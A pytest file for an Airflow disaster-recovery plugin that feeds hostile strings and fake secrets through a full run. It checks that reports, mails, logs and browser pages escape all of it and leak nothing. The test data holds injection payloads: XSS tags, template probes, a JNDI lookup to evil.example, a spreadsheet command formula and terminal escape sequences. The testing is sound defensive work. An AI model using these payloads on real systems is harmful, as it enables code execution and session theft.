"""One run full of hostile text and of secrets: text stays text wherever it is shown, and no secret is written down."""

import html.parser
import json
import re
import sqlite3
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote

import httpx
import pytest
from airflow.dag_processing.dagbag import DagBag
from drs_provider.rules.run.state import TaskSnapshot
from kit.browser import CHROMIUM, page_after_scripts, serving
from kit.dag_runs import Run
from kit.endpoints import open_endpoint
from kit.people import People
from kit.receivers import MailReceiver, WebhookReceiver, html_of
from kit.run_pages import RunsInMemory, pages_of_runs

pytestmark = [pytest.mark.airflow, pytest.mark.filterwarnings("default")]

ROOT = Path(__file__).parents[3]

MARKUP = (
    "<script>document.title='evil'</script>\"><img src=x onerror=document.title='evil'><svg onload=alert(1)> "
    "[go](javascript:document.title='evil') ![x](http://evil.example/x.png) <http://evil.example|pay here> *b* | c | "
    "${jndi:ldap://evil.example/x} ${7*7} %s %(x)s =cmd|' /C calc'!A0"
)
"""What a plan's author may write: plans take no control characters, and are filled in only in steps."""
KEPT = ("TITLE", "DESCRIPTION", "OWNER", "GROUP", "PAUSE")
"""Texts of a plan that nothing fills in, so that braces may stand in them."""
FOREIGN = "x{{ 7*7 }}x {% raw %}{# no #} " + MARKUP + " \x1b[31mred\x1b]0;evil\x07 \u202egnp\u202c"
"""What servers, functions, endpoints and tags may say."""
HOSTNAME = (
    "x{{ 7*7 }}x<img src=x onerror=document.title='evil'> ${jndi:ldap://evil.example/x} *b* [go](http://evil.example)"
)
"""Without control characters: it also goes through EC2's XML, which knows none."""
TERMINAL = "".join(re.findall(r"[\x1b\x07\u202e]", FOREIGN))

SECRETS = {
    "aws": "aws-secret-Kq7",
    "password": "pass-word-Zx3",
    "signing": "signing-secret-Wv9",
    "token": "bearer-token-Lm5",
    "path": "path-secret-Ty1",
    "user": "user-info-Pw8",
    "smtp": "smtp-password-Bn2",
    "key": "api-secret-key-Gh6",
    "external": "external-id-Rd4",
}

TAGS = {"App": f"shop {MARKUP}"[:250], "Name": MARKUP[:250], "Évil": "x{{ 7*7 }}x"}
FLEET = {
    "accounts": [
        {
            "id": "111122223333",
            "regions": [
                {
                    "name": "us-west-2",
                    "network": {"vpc": "10.20.0.0/16", "subnets": {"prod": "10.20.0.0/22"}},
                    "servers": [
                        {"id": "s-00000000000000001", "hostname": HOSTNAME, "tags": TAGS, "lag": "2s"},
                        {"id": "s-00000000000000002", "hostname": "db2", "tags": TAGS, "lag": "2s"},
                    ],
                    "lambda_functions": {
                        "answers": {"behaviour": "answer", "payload": {FOREIGN: [FOREIGN]}},
                        "breaks": {"behaviour": "fail", "error": "<b>Busy</b>", "message": FOREIGN},
                    },
                    "ssm": {
                        "documents": {
                            "Shop-Check": {"takes": "3s", "output": f"out {FOREIGN}"},
                            "Shop-Migrate": {"takes": "3s", "exit_code": 3, "error": f"err {FOREIGN}"},
                        }
                    },
                }
            ],
        }
    ]
}


def connections(simulator, endpoint, told, mails):
    """Every connection that a plan may name, each with secrets; some of them lead nowhere."""
    aws = {"region_name": "us-west-2", "endpoint_url": simulator.url}
    http = {"conn_type": "http", "login": "drs", "password": SECRETS["password"]}
    extra = {"secret": SECRETS["signing"], "Authorization": f"Bearer {SECRETS['token']}"}
    smtp = {"conn_type": "smtp", "host": "127.0.0.1", "login": "drs", "password": SECRETS["smtp"]}
    plain = {"disable_ssl": True, "disable_tls": True, "from_email": "airflow@example.org"}
    closed = f"http://{SECRETS['user']}:{SECRETS['user']}@127.0.0.1:1/{SECRETS['path']}"
    return {
        "AWS_DEFAULT": {"conn_type": "aws", "login": "AKIAEXAMPLE", "password": SECRETS["aws"], "extra": aws},
        "TOLD": {**http, "host": f"http://127.0.0.1:{told.port}/{SECRETS['path']}", "extra": extra},
        "USERINFO": {**http, "host": closed, "extra": extra},
        "GONE": {**http, "host": f"{endpoint.url}/gone/{SECRETS['path']}", "extra": extra},
        "ODD": {**http, "host": f"ftp://{SECRETS['user']}@[{SECRETS['path']}", "extra": extra},
        "MAILS": {**smtp, "port": mails.port, "extra": plain},
        "NOMAILS": {**smtp, "port": 1, "extra": plain},
    }


@pytest.fixture(scope="module")
def left(start_drs_simulator, airflow_db, tmp_path_factory, request):
    """What the run left: its report, its log, the whole of Airflow's database, and what receivers got."""
    folder = tmp_path_factory.mktemp("hostile")
    simulator = start_drs_simulator(FLEET, speed=600)
    told, mails = WebhookReceiver(), MailReceiver()
    text = (Path(__file__).parent / "plans" / "hostile.yaml").read_text()
    with pytest.MonkeyPatch.context() as patch, open_endpoint() as endpoint:
        endpoint.answers |= {"/says": (200, json.dumps({"ok": FOREIGN})), f"/gone/{SECRETS['path']}": (None, "")}
        for name, connection in connections(simulator, endpoint, told, mails).items():
            patch.setenv(f"AIRFLOW_CONN_{name}", json.dumps(connection))
        patch.setenv("AIRFLOW__API__SECRET_KEY", SECRETS["key"])
        patch.setenv("AIRFLOW__API__BASE_URL", "http://airflow.example")
        simulator.client("sns").create_topic(Name="dr")
        filled = text.replace("URL", endpoint.url)
        longest = {"TAG": 80, "OWNER": 150, "TITLE": 190}
        for place in ("GROUP", "TITLE", "DESCRIPTION", "OWNER", "TAG", "PAUSE", "MESSAGE", "DAGID"):
            braces = "x{{ 7*7 }}x {% raw %}{# no #} " if place in KEPT else ""
            said = json.dumps(f"{place} {braces}{MARKUP}"[: longest.get(place, 1000)])[1:-1]
            filled = re.sub(rf"\b{place}\b", lambda _, said=said: said, filled, count=1)
        (folder / "plans").mkdir()
        (folder / "plans" / "shop.yaml").write_text(filled)
        patch.setenv("DRS_PLANS_FOLDER", str(folder / "plans"))
        patch.setenv("DRS_REPORTS", str(folder / "reports"))
        # The pages show this plan also where another test of this process has just stored one of its name.
        patch.setenv("AIRFLOW__CORE__MIN_SERIALIZED_DAG_UPDATE_INTERVAL", "0")
        bag = DagBag(str(ROOT / "dags" / "recovery_plans.py"))
        assert bag.import_errors == {}
        dag = bag.dags["drs.shop"]
        for task in dag.tasks:
            if not hasattr(task, "partial_kwargs"):
                task.retries = 0
        people = People({"database.pause": [("ann", "Continue")], "database.sure": [("ann", "Approve")]})
        capture = request.config.pluginmanager.getplugin("capturemanager")
        capture.read_global_capture()
        with people:
            dag_run = dag.test(run_conf={"mode": "drill", "reason": f"REASON {FOREIGN}"})
        printed = "".join(capture.read_global_capture())
        yield SimpleNamespace(
            run=Run(dag_run, folder / "reports"),
            dag=dag,
            log=printed,
            people=people,
            told=told,
            mails=mails,
            published=[call["request"] for call in simulator.calls() if call["operation"] == "Publish"],
            folder=folder,
            database="\n".join(sqlite3.connect(airflow_db).iterdump()),
        )
    told.close()
    mails.close()


def steps_of(left):
    (wave,) = left.run.report["waves"]
    return {step["name"]: step for step in wave["steps"]}


def test_the_run_met_all_of_it_and_went_on(left):
    assert left.run.report["verdict"] == "completed_with_exceptions", left.run.report["verdict_reason"]
    assert {name: step["state"] for name, step in steps_of(left).items()} == {
        "says": "succeeded",
        "fails": "tolerated",
        "answers": "succeeded",
        "breaks": "tolerated",
        "health": "tolerated",
        "sure": "succeeded",
        "told": "succeeded",
        "unheard": "tolerated",
        "hung-up": "tolerated",
        "unnamed": "tolerated",
        "nothing": "tolerated",
    }
    assert {notification["outcome"] for notification in left.run.report["notifications"]} == {"sent", "failed"}
    assert len(left.mails.mails) > 5


class Tags(html.parser.HTMLParser):
    """Which elements and attributes a browser would see."""

    def __init__(self, text):
        super().__init__()
        self.found = set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        self.found |= {f"{tag} {name}" for name, _ in attrs if name.startswith("on")}
        self.found |= {f"{tag} {value}" for _, value in attrs if str(value).lower().startswith("javascript:")}


ACTIVE = re.compile(r"^(script|img|iframe|object|embed|.* on|.* javascript)")


def active(text):
    return {tag for tag in Tags(text).found if ACTIVE.match(tag)}


def test_reports_and_mails_are_html_in_which_nothing_of_it_is_an_element(left):
    page = next(left.folder.rglob("report.html")).read_text()
    mails = [html_of(message) for _, message in left.mails.mails]

    assert "&lt;script&gt;document.title=" in page
    assert active(page) <= {"script"}
    assert page.count("<script") <= 1
    assert [active(mail) for mail in mails if active(mail)] == []
    assert any("&lt;img src=x onerror=" in mail for mail in mails)


def test_nothing_is_evaluated_anywhere(left):
    written = [path.read_text(errors="replace") for path in left.folder.rglob("*") if path.is_file()]
    told = [json.dumps(left.told.bodies), json.dumps(left.published), *map(str, left.people.asked)]
    mails = [html_of(message) for _, message in left.mails.mails]

    for text in [left.log, left.database, *written, *told, *mails]:
        assert "x49x" not in text
    assert any("x{{ 7*7 }}x" in text for text in written)
    assert "x{{ 7*7 }}x" in left.database


def texts(value):
    """Every text in a value of JSON but the run's parameters, which are kept as they were given."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from () if key in ("params", "reason") else texts(inner)
    elif isinstance(value, list):
        for element in value:
            yield from texts(element)


def test_nothing_that_steers_a_terminal_reaches_logs_reports_or_receivers(left):
    said = list(texts(left.run.report))
    subjects = [str(message["Subject"]) for _, message in left.mails.mails]

    assert left.log
    for sequence in TERMINAL:
        assert sequence not in left.log.replace("\x1b[0m", ""), left.log[: left.log.index(sequence) + 200][-400:]
        assert not any(sequence in text for text in said)
        assert not any(sequence in subject for subject in subjects)
        assert not any(sequence in body["text"] for body in left.told.bodies if "text" in body)
        assert not any(sequence in json.loads(request["Message"])["default"] for request in left.published)
    assert "\\x1b[31mred" in steps_of(left)["says"]["instances"][0]["output"]


def test_documentation_and_questions_hold_no_markup_of_others(left):
    for text in (left.dag.doc_md, *(body for _, _, body in left.people.asked)):
        assert "<script" not in text
        assert "<img" not in text
        assert "[go](" not in text
    assert r"\[go\]\(javascript:" in left.dag.doc_md


def test_no_secret_is_written_down(left):
    links = {link for _, mail in left.mails.mails for link in re.findall(r"/drs/answers#([^'\"]+)", html_of(mail))}
    tokens = {f"link {number}": link for number, link in enumerate(sorted(links))}
    files = {path.name: path.read_text(errors="replace") for path in left.folder.rglob("*") if path.is_file()}
    told = {"webhooks": json.dumps(left.told.bodies), "sns": json.dumps(left.published)}
    where = {"log": left.log, "database": left.database, **files, **told}

    assert len(links) == 2
    found = [
        (name, place) for name, secret in (SECRETS | tokens).items() for place, text in where.items() if secret in text
    ]
    assert found == []
    assert SECRETS["token"] in str(left.told.requests[0][0])  # it was used


class Shown(RunsInMemory):
    """The run as the board meets it: as it is, or while its report is not written yet."""

    def __init__(self, run):
        super().__init__()
        self.kept = run

    def run(self, dag_id, run_id, before=None):
        if run_id != "going-on":
            return self.kept
        left = {key: value for key, value in self.kept.left.items() if key[0] != "finish.report"}
        asked = {"at": "2026-11-22T05:04:00+00:00", "until": "2026-11-22T05:34:00+00:00", "subject": FOREIGN}
        left["database.sure", "asked"] = {**asked, "text": FOREIGN, "people": [FOREIGN], "options": [FOREIGN]}
        tasks = self.kept.tasks | {"database.sure": TaskSnapshot("awaiting_input")}
        return replace(self.kept, run_id=run_id, state="running", left=left, tasks=tasks)


@pytest.fixture(scope="module")
def pages(left):
    """The plugin's own pages over this run, as they are served."""
    from airflow.utils.session import create_session
    from drs_provider.ui.airflow_runs import AirflowRuns

    with create_session() as session:
        found = AirflowRuns(session).run("drs.shop", left.run.dag_run.run_id)
    app = pages_of_runs(left.folder, Shown(found), readable=("drs.shop",), problems=True, now=lambda: datetime.now(UTC))
    with serving(app) as address:
        yield address, quote(left.run.dag_run.run_id, safe="")


def test_the_board_says_it_all_as_data(left, pages):
    address, _ = pages

    board = httpx.get(f"{address}/runs/drs.shop/going-on/board", trust_env=False).json()

    (wave,) = board["waves"]
    assert board["edited"] == [], "all of it was written by the run's own tasks"
    assert [step["name"] for step in wave["after"]][:3] == ["says", "fails", "answers"]
    assert [step["kind"] for step in wave["after"]][:3] == ["ssm_command", "ssm_command", "lambda"]
    assert {server["hostname"] for server in wave["servers"]} == {HOSTNAME, "db2"}
    assert board["questions"][0]["text"] == FOREIGN
    assert not any(secret in json.dumps(board) for secret in SECRETS.values())


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")
@pytest.mark.parametrize(
    ("path", "title", "shown"),
    [
        ("/plans", "Recovery plans", "TITLE x{{ 7*7 }}x {% raw %}{# no #} &lt;script&gt;"),
        ("/runs/drs.shop/going-on", "Recovery: drs.shop", "approvers: x{{ 7*7 }}x"),
        ("/reports/drs.shop/RUN/report.html", "Completed with exceptions: drill of TITLE", "&lt;img src=x onerror="),
    ],
)
def test_no_script_of_theirs_runs_in_a_browser(pages, tmp_path, path, title, shown):
    address, run = pages

    page = page_after_scripts(f"{address}{path.replace('RUN', run)}", tmp_path)

    (named,) = re.findall(r"<title>(.*?)</title>", page)[:1]
    assert (named.startswith(title), named == "evil") == (True, False), named
    assert shown in page
    assert active(page) <= {"script", "iframe"}
    assert page.count("<script") <= 1
